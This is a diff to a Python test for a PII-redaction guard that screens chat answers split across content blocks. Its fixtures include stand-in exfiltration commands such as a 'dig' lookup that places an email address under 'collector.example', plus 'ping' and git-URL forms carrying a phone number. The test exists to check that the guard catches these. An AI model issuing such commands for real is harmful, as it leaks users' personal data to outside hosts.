@@ -183,10 +183,12 @@ def chat_answer(*parts: str) -> dict[str, object]:
 async def test_whole_answers_read_their_texts_joined_for_hosts(guard: Guard, rules: str) -> None:
     p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
     verdict = await redacted(guard, p, f"Mail {MAIL}, call {PHONE}.")
-    a = anthropic_answer(f"Run: dig {E}", ".collector.example now", f" Or call {P}.")
+    # (the third text on a line of its own: on the command's line, `Run: dig ...`, it is the command's words since
+    # atk24a F18, and kept with them: tests/guard/test_intro24.py)
+    a = anthropic_answer(f"Run: dig {E}", ".collector.example now", f"\nOr call {P}.")
     await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
     assert [b["text"] for b in a["content"]] == [f"Run: dig {E}", ".collector.example now",  # type: ignore[index]
-                                                 f" Or call {PHONE}."]
+                                                 f"\nOr call {PHONE}."]
     a = anthropic_answer(f"ping {P}", "", "@collector.example:x.git")
     await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
     assert a["content"][0]["text"] == f"ping {P}"  # type: ignore[index]
